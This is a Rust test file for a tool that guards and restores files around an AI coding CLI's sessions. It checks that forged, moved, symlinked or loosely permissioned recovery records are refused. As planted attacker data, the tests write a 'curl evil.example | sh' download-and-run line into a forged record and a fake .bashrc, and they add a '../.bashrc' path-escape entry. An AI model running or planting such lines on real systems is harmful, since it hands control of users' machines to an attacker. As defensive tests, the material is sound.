use std::os::unix::fs::PermissionsExt;

use super::super::{Before, Held};
use std::sync::Arc;

use super::*;
use crate::wall::{Guarded, Hold};

/// No process has pid 2^22 + 1 (above the kernel's pid_max limit).
const GONE: &str = "4194305-1";

/// `bytes` as the journal writes them.
fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// What `record`, written by this codecrew under `root`, holds (read, not held: dropping
/// it puts nothing back).
fn read_back(root: &Path, record: &Path) -> Vec<Guard> {
    let key = Key::of(root).unwrap();
    read(record, &key, own_name().unwrap())
        .map(|start| start.guards)
        .unwrap_or_else(|refusal| panic!("{refusal:?}"))
}

/// Who held, in these tests.
fn holder() -> Holder {
    Holder {
        cli: "claude".to_owned(),
        workspace: PathBuf::from("/w"),
    }
}

/// What codecrew holds for the holder, in these tests: `paths`, each held whole.
fn holding(paths: &[&Path]) -> impl Fn(&Holder) -> Vec<Guarded> {
    let held: Vec<PathBuf> = paths.iter().map(|path| path.to_path_buf()).collect();
    move |holder| {
        assert_eq!(*holder, self::holder());
        held.iter()
            .map(|path| Guarded {
                path: path.clone(),
                hold: Hold::Whole,
            })
            .collect()
    }
}

/// `guards` written down under `root` as the codecrew `GONE` left them when it was
/// killed: its sealed record, in its folder.
fn left_by_the_gone(root: &Path, guards: &[&Guard]) -> PathBuf {
    let written = write_in(root, GONE, &holder(), guards).unwrap();
    let record = written.path.clone();
    // Not set aside by this process: it was killed.
    std::mem::forget(written);
    record
}

/// A held folder with one file, its guard written down under `root` as a codecrew that
/// is gone would have left it, and the file then changed: the record, in its folder.
fn abandoned(root: &Path, held: &Path) -> PathBuf {
    std::fs::create_dir_all(held).unwrap();
    std::fs::write(held.join("hook.sh"), "mine").unwrap();
    let guard = Guard::new(
        &Guarded {
            path: held.to_path_buf(),
            hold: Hold::Whole,
        },
        "claude",
    );
    let record = left_by_the_gone(root, &[&guard]);
    // Not put back by this process: as if it had been killed.
    std::mem::forget(guard);
    let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&record), 0o600);
    assert_eq!(mode(record.parent().unwrap()), 0o700);
    std::fs::write(held.join("hook.sh"), "evil").unwrap();
    std::fs::create_dir_all(held.join("plant")).unwrap();
    std::fs::write(held.join("plant/planted.sh"), "evil").unwrap();
    record
}

#[test]
fn what_a_killed_codecrew_held_is_put_back_by_the_next_and_its_journal_removed() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("state/codecrew/held");
    let held = dir.path().join("session-env");
    let gone = abandoned(&root, &held).parent().unwrap().to_path_buf();
    // A running codecrew's folder (this one's) is left alone.
    let mine = root.join(own_name().unwrap());
    std::fs::create_dir(&mine).unwrap();
    std::fs::write(mine.join("0.json"), "{}").unwrap();
    let refused = recover(Some(&root), &holding(&[&held]));
    assert_eq!(refused, []);
    assert_eq!(
        std::fs::read_to_string(held.join("hook.sh")).unwrap(),
        "mine"
    );
    assert!(!held.join("plant").exists(), "the plant's folder stays");
    assert!(!gone.exists(), "the journal stays");
    assert!(
        mine.join("0.json").exists(),
        "a running codecrew's journal was read"
    );
}

/// The attack of issue 48: a record that looks like a held one, naming `~/.bashrc`,
/// written by something other than codecrew (a tool where the state folder lies in the
/// workspace). Without codecrew's seal nothing it names is written, whatever it names,
/// and the warning names the record and why; so is one a codecrew before the seal left.
#[test]
fn a_record_codecrew_did_not_seal_writes_nothing_and_is_named() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("state/codecrew/held");
    let held = dir.path().join("session-env");
    let record = abandoned(&root, &held);
    let bashrc = dir.path().join(".bashrc");
    std::fs::write(&bashrc, "# mine\n").unwrap();
    // What the record says, put back under a forged seal, without one, as an earlier
    // codecrew wrote it (a list of guards, or one), and naming `~/.bashrc`.
    let sealed = std::fs::read(&record).unwrap();
    let at = sealed.iter().position(|byte| *byte == b'\n').unwrap();
    let body = &sealed[at + 1..];
    let start: serde_json::Value = serde_json::from_slice(body).unwrap();
    let planted = {
        let mut guard = start["guards"][0].clone();
        guard["path"] = serde_json::json!(hex(bashrc.as_os_str().as_encoded_bytes()));
        guard["before"]["Whole"]["held"]["Copy"] = serde_json::json!([[
            "",
            {"File": hex(b"curl evil.example | sh\n")}
        ]]);
        guard
    };
    let mut forged = start.clone();
    forged["guards"] = serde_json::json!([planted]);
    let forged = serde_json::to_vec(&forged).unwrap();
    for bytes in [
        [
            b"codecrew-held 2 ".as_slice(),
            "ab".repeat(32).as_bytes(),
            b"\n",
            &forged,
        ]
        .concat(),
        forged.clone(),
        serde_json::to_vec(&start["guards"]).unwrap(),
        serde_json::to_vec(&planted).unwrap(),
        body.to_vec(),
    ] {
        std::fs::write(&record, &bytes).unwrap();
        let refused = recover(Some(&root), &holding(&[&held, &bashrc]));
        assert_eq!(refused.len(), 1, "{refused:?}");
        let Warning::NotPutBack { record: named, why } = &refused[0] else {
            panic!("{refused:?}");
        };
        assert_eq!(named, &record);
        assert!(why.contains("seal"), "{why}");
        assert!(
            refused[0].text().contains("nothing it names was written"),
            "{}",
            refused[0].text()
        );
        assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "# mine\n");
        assert_eq!(
            std::fs::read_to_string(held.join("hook.sh")).unwrap(),
            "evil"
        );
        assert!(record.exists(), "left for the user to look at");
    }
}

/// A record codecrew sealed says what to write where: only the paths codecrew holds for
/// the CLI it names, in its workspace, held as codecrew holds them, go back; one that
/// names anything else is refused whole, and dropping what it held writes nothing.
#[test]
fn a_sealed_record_puts_back_only_what_codecrew_holds_for_its_cli() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("held");
    let held = dir.path().join("session-env");
    std::fs::create_dir_all(&held).unwrap();
    std::fs::write(held.join("hook.sh"), "mine").unwrap();
    let bashrc = dir.path().join(".bashrc");
    std::fs::write(&bashrc, "# mine\n").unwrap();
    let claude_json = dir.path().join(".claude.json");
    std::fs::write(&claude_json, r#"{"mcpServers":{}}"#).unwrap();
    let whole = |path: &Path| {
        Guard::new(
            &Guarded {
                path: path.to_path_buf(),
                hold: Hold::Whole,
            },
            "claude",
        )
    };
    // What codecrew holds: `session-env` whole, `.claude.json` by its keys only.
    let allowed = |_: &Holder| {
        vec![
            Guarded {
                path: held.clone(),
                hold: Hold::Whole,
            },
            Guarded {
                path: claude_json.clone(),
                hold: Hold::Keys(&[&["mcpServers"]]),
            },
        ]
    };
    // Held when the killed codecrew's CLI started; changed in its wall since.
    let mut session = whole(&held);
    session.live = false;
    std::fs::write(held.join("hook.sh"), "evil").unwrap();
    let record = root.join(GONE).join("0.json");
    for (guard, why) in [
        (whole(&bashrc), "never holds"),
        (whole(&claude_json), "otherwise than codecrew holds it"),
    ] {
        std::fs::write(&bashrc, "curl evil.example | sh\n").unwrap();
        std::fs::write(&claude_json, r#"{"mcpServers":{"evil":{}}}"#).unwrap();
        let mut guard = guard;
        // Not this codecrew's: read back, as a recovery reads it.
        guard.live = false;
        let _ = std::fs::remove_dir_all(record.parent().unwrap());
        left_by_the_gone(&root, &[&session, &guard]);
        let refused = recover(Some(&root), &allowed);
        assert_eq!(refused.len(), 1, "{refused:?}");
        assert!(refused[0].text().contains(why), "{}", refused[0].text());
        assert_eq!(
            std::fs::read_to_string(&bashrc).unwrap(),
            "curl evil.example | sh\n",
            "written"
        );
        assert_eq!(
            std::fs::read_to_string(&claude_json).unwrap(),
            r#"{"mcpServers":{"evil":{}}}"#
        );
        assert_eq!(
            std::fs::read_to_string(held.join("hook.sh")).unwrap(),
            "evil",
            "a refused record is refused whole"
        );
    }
    // A name beneath the held folder that leaves it.
    let mut escaping = whole(&held);
    escaping.live = false;
    if let Before::Whole {
        held: Held::Copy(files),
        ..
    } = &mut escaping.before
    {
        files.insert(
            PathBuf::from("../.bashrc"),
            super::super::files::Entry::File(b"evil".to_vec()),
        );
    }
    std::fs::remove_dir_all(record.parent().unwrap()).unwrap();
    left_by_the_gone(&root, &[&escaping]);
    let refused = recover(Some(&root), &allowed);
    assert!(refused[0].text().contains("../.bashrc"), "{refused:?}");
    assert_eq!(
        std::fs::read_to_string(&bashrc).unwrap(),
        "curl evil.example | sh\n"
    );
    // Its own CLI and workspace, and what it holds as codecrew holds it: put back.
    std::fs::remove_dir_all(record.parent().unwrap()).unwrap();
    left_by_the_gone(&root, &[&session]);
    assert_eq!(recover(Some(&root), &allowed), []);
    assert_eq!(
        std::fs::read_to_string(held.join("hook.sh")).unwrap(),
        "mine"
    );
}

/// A sealed record moved into the folder of another codecrew that is gone (or copied
/// from an older run) is not that one's: its seal names the folder it was written in.
#[test]
fn a_record_moved_into_another_codecrews_folder_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("held");
    let held = dir.path().join("session-env");
    let record = abandoned(&root, &held);
    let other = root.join("4194305-2");
    std::fs::rename(record.parent().unwrap(), &other).unwrap();
    let refused = recover(Some(&root), &holding(&[&held]));
    assert_eq!(refused.len(), 1, "{refused:?}");
    assert!(refused[0].text().contains("seal"), "{refused:?}");
    assert_eq!(
        std::fs::read_to_string(held.join("hook.sh")).unwrap(),
        "evil"
    );
}

#[test]
fn a_journal_through_a_link_or_writable_by_others_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("held");
    let held = dir.path().join("session-env");
    let record = abandoned(&root, &held);
    let recover = |root: &Path| recover(Some(root), &holding(&[&held]));
    let gone = record.parent().unwrap().to_path_buf();
    let name = record.file_name().unwrap();
    // The folder moved elsewhere and a link left in its place.
    let elsewhere = dir.path().join("elsewhere");
    std::fs::rename(&gone, &elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, &gone).unwrap();
    recover(&root);
    assert_eq!(
        std::fs::read_to_string(held.join("hook.sh")).unwrap(),
        "evil"
    );
    assert!(gone.symlink_metadata().is_ok() && elsewhere.join(name).exists());

    // A real folder, but writable by the group.
    std::fs::remove_file(&gone).unwrap();
    std::fs::rename(&elsewhere, &gone).unwrap();
    std::fs::set_permissions(&gone, std::fs::Permissions::from_mode(0o770)).unwrap();
    recover(&root);
    assert_eq!(
        std::fs::read_to_string(held.join("hook.sh")).unwrap(),
        "evil"
    );

    // A record writable by others, then a record that is a link.
    std::fs::set_permissions(&gone, std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::set_permissions(&record, std::fs::Permissions::from_mode(0o666)).unwrap();
    recover(&root);
    assert_eq!(
        std::fs::read_to_string(held.join("hook.sh")).unwrap(),
        "evil"
    );
    std::fs::set_permissions(&record, std::fs::Permissions::from_mode(0o600)).unwrap();
    let moved = dir.path().join("record.json");
    std::fs::rename(&record, &moved).unwrap();
    std::os::unix::fs::symlink(&moved, &record).unwrap();
    recover(&root);
    assert_eq!(
        std::fs::read_to_string(held.join("hook.sh")).unwrap(),
        "evil"
    );

    // The held folder of journals itself a link.
    std::fs::remove_file(&record).unwrap();
    std::fs::rename(&moved, &record).unwrap();
    let real = dir.path().join("real-held");
    std::fs::rename(&root, &real).unwrap();
    std::os::unix::fs::symlink(&real, &root).unwrap();
    recover(&root);
    assert_eq!(
        std::fs::read_to_string(held.join("hook.sh")).unwrap(),
        "evil"
    );

    // The key that seals the records readable by others: nothing is read back.
    std::fs::remove_file(&root).unwrap();
    std::fs::rename(&real, &root).unwrap();
    let key = super::super::seal::key_path(&root).unwrap();
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o644)).unwrap();
    let refused = recover(&root);
    assert!(
        matches!(&refused[..], [Warning::Refused { path, .. }] if *path == key),
        "{refused:?}"
    );
    assert_eq!(
        std::fs::read_to_string(held.join("hook.sh")).unwrap(),
        "evil"
    );

    // Once trusted, it is read.
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
    assert_eq!(recover(&root), []);
    assert_eq!(
        std::fs::read_to_string(held.join("hook.sh")).unwrap(),
        "mine"
    );
}

#[test]
fn a_malformed_record_is_refused_and_left_for_the_user() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("held");
    let gone = root.join(GONE);
    std::fs::DirBuilder::new()
        .recursive(true)
        .mode(0o700)
        .create(&gone)
        .unwrap();
    let record = gone.join("0.json");
    let key = Key::of(&root).unwrap();
    for text in [
        "{not json",
        r#"{"cli":"claude","workspace":"2f77","guards":[{"cli":"x","path":"zz","except":[],"before":{}}]}"#,
    ] {
        std::fs::write(&record, key.seal(GONE, text.as_bytes())).unwrap();
        std::fs::set_permissions(&record, std::fs::Permissions::from_mode(0o600)).unwrap();
        let refused = recover(Some(&root), &holding(&[]));
        assert!(
            matches!(&refused[..], [Warning::NotPutBack { why, .. }] if why.contains("malformed")),
            "{text}: {refused:?}"
        );
        assert!(record.exists());
    }
}

/// A folder held as a whole, with one file.
fn held_folder(dir: &Path) -> Guarded {
    let held = dir.join("session-env");
    std::fs::create_dir_all(&held).unwrap();
    std::fs::write(held.join("hook.sh"), "mine").unwrap();
    Guarded {
        path: held,
        hold: Hold::Whole,
    }
}

/// The record the guards of one start were written down in.
fn record_of(guards: &[Arc<Guard>]) -> PathBuf {
    guards[0]
        .journal
        .lock()
        .unwrap()
        .as_ref()
        .unwrap()
        .path
        .clone()
}

/// The names in this codecrew's folder under `root`.
fn names_in(root: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(root.join(own_name().unwrap()))
        .map(|entries| {
            entries
                .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    names.sort();
    names
}

/// Two CLI starts (two turns of a chat) holding a folder nothing changed in between:
/// its record is written once, and taken back for the second.
#[test]
fn a_record_is_written_once_while_what_it_holds_is_unchanged() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("held");
    let guarded = held_folder(dir.path());
    let first = super::super::hold_in(
        std::slice::from_ref(&guarded),
        "claude",
        &holder(),
        Some(&root),
    );
    // Kept open, so that its inode cannot go to a file written later.
    let written = std::fs::File::open(record_of(&first)).unwrap();
    drop(first);
    assert!(
        names_in(&root).iter().all(|name| name.starts_with(IDLE)),
        "a record of what is put back is read by a recovery: {:?}",
        names_in(&root)
    );
    let second = super::super::hold_in(
        std::slice::from_ref(&guarded),
        "claude",
        &holder(),
        Some(&root),
    );
    let record = record_of(&second);
    let now = std::fs::symlink_metadata(&record).unwrap();
    let then = written.metadata().unwrap();
    assert_eq!(now.ino(), then.ino(), "the record was written again");
    assert_eq!(then.nlink(), 1);
    assert_eq!(read_back(&root, &record).len(), 1);
    drop(second);
    finish_where(|file| file.starts_with(&root));
    assert!(!root.join(own_name().unwrap()).exists());
}

/// What changed between two starts is written down: the record describes what the
/// second holds, and the first one's record is gone.
#[test]
fn a_record_is_written_again_once_what_it_holds_changed() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("held");
    let guarded = held_folder(dir.path());
    let first = super::super::hold_in(
        std::slice::from_ref(&guarded),
        "claude",
        &holder(),
        Some(&root),
    );
    let written = std::fs::File::open(record_of(&first)).unwrap();
    drop(first);
    // Changed between the turns, outside any wall (the user, another codecrew).
    std::fs::write(guarded.path.join("hook.sh"), "edited").unwrap();
    let second = super::super::hold_in(
        std::slice::from_ref(&guarded),
        "claude",
        &holder(),
        Some(&root),
    );
    let record = record_of(&second);
    assert_ne!(
        std::fs::symlink_metadata(&record).unwrap().ino(),
        written.metadata().unwrap().ino()
    );
    assert_eq!(written.metadata().unwrap().nlink(), 0, "the old one stays");
    let recorded = read_back(&root, &record);
    let Before::Whole {
        held: Held::Copy(files),
        ..
    } = &recorded[0].before
    else {
        panic!("not held by a copy");
    };
    assert_eq!(
        files.get(Path::new("hook.sh")),
        Some(&super::super::files::Entry::File(b"edited".to_vec()))
    );
    assert_eq!(
        names_in(&root),
        [record.file_name().unwrap().to_str().unwrap()]
    );
    drop(second);
    finish_where(|file| file.starts_with(&root));
}

/// A record set aside says what is held no more: a killed codecrew's is removed, never
/// put back over what the user changed since.
#[test]
fn a_record_set_aside_is_never_put_back() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("held");
    let guarded = held_folder(dir.path());
    drop(super::super::hold_in(
        std::slice::from_ref(&guarded),
        "claude",
        &holder(),
        Some(&root),
    ));
    // Killed now: its folder as a codecrew that is gone left it.
    let gone = root.join(GONE);
    std::fs::rename(root.join(own_name().unwrap()), &gone).unwrap();
    std::fs::write(guarded.path.join("hook.sh"), "edited").unwrap();
    recover(Some(&root), &holding(&[&guarded.path]));
    assert_eq!(
        std::fs::read_to_string(guarded.path.join("hook.sh")).unwrap(),
        "edited"
    );
    assert!(!gone.exists());
    finish_where(|file| file.starts_with(&root));
}

/// A CLI start holding several paths makes one record (each file made is a wait on a
/// busy disk), which says what is held until the last of them is put back.
#[test]
fn one_cli_start_is_one_record_until_its_last_guard_is_put_back() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("held");
    let folder = held_folder(dir.path());
    let file = dir.path().join("settings.json");
    std::fs::write(&file, "{}").unwrap();
    let guarded = [
        folder,
        Guarded {
            path: file,
            hold: Hold::Whole,
        },
    ];
    let mut guards = super::super::hold_in(&guarded, "claude", &holder(), Some(&root));
    let record = record_of(&guards);
    let name = record.file_name().unwrap().to_str().unwrap().to_owned();
    assert_eq!(names_in(&root), std::slice::from_ref(&name));
    let recorded = read_back(&root, &record);
    assert_eq!(recorded.len(), 2);
    drop(guards.remove(0));
    assert_eq!(
        names_in(&root),
        std::slice::from_ref(&name),
        "set aside while a guard holds"
    );
    drop(guards);
    assert_eq!(names_in(&root), [format!("{IDLE}{name}")]);
    finish_where(|file| file.starts_with(&root));
}
